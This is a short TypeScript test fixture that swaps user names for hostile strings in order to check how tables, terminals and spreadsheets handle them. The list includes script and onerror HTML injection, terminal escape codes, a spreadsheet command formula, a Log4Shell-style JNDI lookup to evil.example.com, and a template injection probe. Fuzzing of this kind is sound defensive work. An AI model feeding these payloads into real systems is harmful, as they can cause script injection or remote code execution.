import { defineTrouble } from "../trouble.ts";

const names = [
  "<script>document.title='owned'</script>",
  `<img src=x onerror="document.title='owned'">`,
  `"O'Brien" & 'Sons' \`x\``,
  "\u202Egnp.ylimaf\u202C",
  "Ze\u200Bro\u200DWidth\uFEFF",
  "\u001B[31mred\u001B[0m \u001B]0;title\u0007",
  `=cmd|' /C calc'!A0`,
  "Long".repeat(1_000),
  "Two\nLines\r\nand\ttabs",
  "${jndi:ldap://evil.example.com/a} {{7*7}} %s",
  "",
  "\u{1F469}\u200D\u{1F680} Ada \u0410\u0434\u0430",
];

export const hostileNames = defineTrouble({
  description: "People are called what breaks tables, terminals and spreadsheets: markup, escape codes, formulas.",
  start: () => ({
    users: (users) => users.map((user, index) => ({ ...user, userName: names[index % names.length]! })),
  }),
});
